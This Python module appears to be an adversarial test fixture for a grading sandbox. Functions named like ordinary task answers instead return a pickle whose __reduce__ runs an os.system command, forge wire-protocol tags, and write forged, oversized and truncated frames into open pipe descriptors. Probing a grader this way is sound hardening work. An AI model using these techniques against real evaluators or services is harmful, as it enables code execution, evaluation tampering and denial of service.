"""Smuggle code into the grader: pickles, __reduce__, forged wire tags, forged and broken frames."""
import os
import pickle
import struct


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/TOKEN-pwned",))


PICKLE = pickle.dumps(Payload())


def frame(header, payload=b""):
    import json
    text = json.dumps(dict(header, buffers=[len(payload)] if payload else [])).encode()
    return struct.pack("<QI", len(text) + len(payload), len(text)) + text + payload


def reply_fds():
    found = []
    for fd in range(3, 64):
        try:
            if os.get_blocking(fd) is not None and os.fstat(fd).st_mode & 0o010000:  # a pipe
                found.append(fd)
        except OSError:
            pass
    return found


def conv_output_size(*args, **kwargs):
    return PICKLE


def pool_output_size(*args, **kwargs):
    return Payload()


def same_padding(*args, **kwargs):
    return {"$": "h", "id": 1, "type": "int"}  # a dict that looks like a wire tag


def conv2d_num_params(*args, **kwargs):
    forged = [frame({"seq": n, "ok": {"$": "nd", "t": "|O", "s": [1], "b": 0}}, PICKLE) for n in range(1, 5000, 997)]
    forged.append(struct.pack("<QI", 1 << 60, 10))  # a frame claiming an exabyte
    for fd in reply_fds():
        for data in forged:
            try:
                os.write(fd, data)
            except OSError:
                pass
    return -1


def linear_num_params(*args, **kwargs):
    for fd in reply_fds():
        try:
            os.write(fd, struct.pack("<QI", 1000, 10) + b"{half")  # half a frame, then silence
        except OSError:
            pass
    return -1


def trace_shapes(*args, **kwargs):
    return [{"$": "pt", "t": "object", "s": [1], "b": 0}, PICKLE]
